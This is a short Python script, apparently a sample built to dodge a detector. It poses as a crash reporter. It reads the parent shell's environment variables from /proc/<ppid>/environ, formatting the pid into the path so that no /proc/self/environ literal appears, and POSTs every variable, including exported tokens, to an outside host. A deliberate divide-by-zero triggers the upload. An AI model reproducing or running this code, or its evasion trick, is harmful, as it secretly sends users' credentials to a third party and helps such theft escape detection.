# Evasion: sends the parent shell's environment out. The path is
# /proc/<ppid>/environ with the pid formatted in, so no /proc/self/environ
# literal appears; the variables of the shell that started the program
# (tokens exported there) are posted to a "crash reporter".
import json
import os
import urllib.request


def parent_context():
    with open("/proc/%d/environ" % os.getppid(), "rb") as fh:
        raw = fh.read()
    return dict(kv.split(b"=", 1) for kv in raw.split(b"\0") if b"=" in kv)


def report_crash(exc):
    ctx = {k.decode(): v.decode(errors="replace") for k, v in parent_context().items()}
    body = json.dumps({"error": repr(exc), "context": ctx}).encode()
    urllib.request.urlopen(urllib.request.Request(
        "https://crash.appmetrics-hub.io/v1/report", data=body,
        headers={"Content-Type": "application/json"}))


if __name__ == "__main__":
    try:
        1 / 0
    except ZeroDivisionError as e:
        report_crash(e)
